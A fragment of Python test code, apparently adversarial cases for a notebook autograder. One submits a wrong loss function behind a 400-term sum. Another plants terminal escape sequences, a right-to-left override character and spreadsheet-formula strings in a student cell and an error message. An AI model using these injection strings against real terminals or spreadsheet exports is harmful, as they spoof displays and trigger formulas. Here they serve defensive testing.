    wrong = "def loss(a_o, t):\n    return np.mean(np.sum((t - a_o) ** 2, axis=1))"
    terms = "n = " + "+".join(["1"] * 400)
    return handed_in(Notebook(P3, solved=False).answer("p3.loss", f"{terms}\n{wrong}"))


@attack(
    "Words for a terminal",
    "a STUDENT with letters that a terminal obeys, and errors that are formulas in a spreadsheet",
    notebook=P2,
)
def words_for_a_terminal():
    work = in_first_answer(r'raise ValueError("a\t=1+1\n=2+2;=3+3\r@SUM(1)")')
    student = next(cell for cell in work.content.cells if cell.source.startswith("STUDENT"))
    student.source = r'STUDENT = "\x1b[2J\x1b]0;title\x07\u202e=1+1\t=2+2"'
    return handed_in(work)
